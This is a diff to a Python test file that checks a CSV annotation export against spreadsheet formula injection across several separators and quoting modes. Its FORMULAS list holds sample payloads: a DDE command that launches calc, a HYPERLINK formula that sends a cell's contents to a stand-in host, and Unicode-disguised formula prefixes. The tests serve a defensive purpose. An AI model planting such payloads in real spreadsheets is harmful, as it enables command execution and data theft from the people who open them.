@@ -1,6 +1,7 @@
 import csv
 import io
 import json
+import re
 from collections.abc import Callable
 from pathlib import Path
 
@@ -89,15 +90,37 @@ def test_the_seed_and_the_ids_alone_decide(tmp_path) -> None:
     assert items(tmp_path / "a").keys() != items(tmp_path / "c").keys()
 
 
-def test_no_cell_is_a_formula(tmp_path) -> None:
-    pairs = make_pairs(4)
-    for pair, start in zip(pairs, ("=", "+", "-", "@"), strict=True):
-        pair["question"] = f"{start}cmd|' /C calc'!A0 {SPEECH}"
-        pair["chosen"] = f"\t{start}1+1"
-    annotation.export(pairs, tmp_path, count=4)
-    cells = [cell for row in read(tmp_path / "expert-1.csv") for cell in row.values() if cell]
-    assert not any(cell.lstrip()[0] in "=+-@" for cell in cells)
-    assert sum(cell.startswith("'") for cell in cells) == 8
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    'I feel bad;=HYPERLINK("http://example.org/?"&A1,"open")',
+    "I feel bad\t@SUM(1)",
+    "first, -2+3",
+    "a list:\n- one\r\n  + two",
+    'he said; "=1+1"',
+    "\u00a0\uff1d1+1",
+    ";\u200c=1",  # the mark itself
+    "It is 5 = 5; I am fine, or so-so",
+]
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE], ids=["quotes", "quotes-are-text"])
+def test_no_cell_is_a_formula_whatever_a_program_takes_for_the_separator(tmp_path, separator, quoting) -> None:
+    pairs = make_pairs(len(FORMULAS))
+    for pair, text in zip(pairs, FORMULAS, strict=True):
+        pair["question"] = pair["chosen"] = text
+    annotation.export(pairs, tmp_path, count=len(pairs))
+    text = (tmp_path / "expert-1.csv").read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(text.splitlines(True), delimiter=separator, quoting=quoting) for cell in row]
+    assert len(cells) > len(pairs)
+    assert [cell for cell in cells if re.match(r"[\s\"']*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell)] == []
+
+
+def test_texts_are_read_back_as_they_were(tmp_path) -> None:
+    rows = [(f"p{number}", text) for number, text in enumerate(FORMULAS)]
+    expert_csv.write_table(tmp_path / "table.csv", ("item", "text"), rows)
+    read_back = expert_csv.read_items(tmp_path / "table.csv", ("text",), dict(rows))
+    assert [(item, row["text"]) for _, item, row in read_back] == rows
 
 
 def test_an_invalid_export_is_refused(tmp_path) -> None:
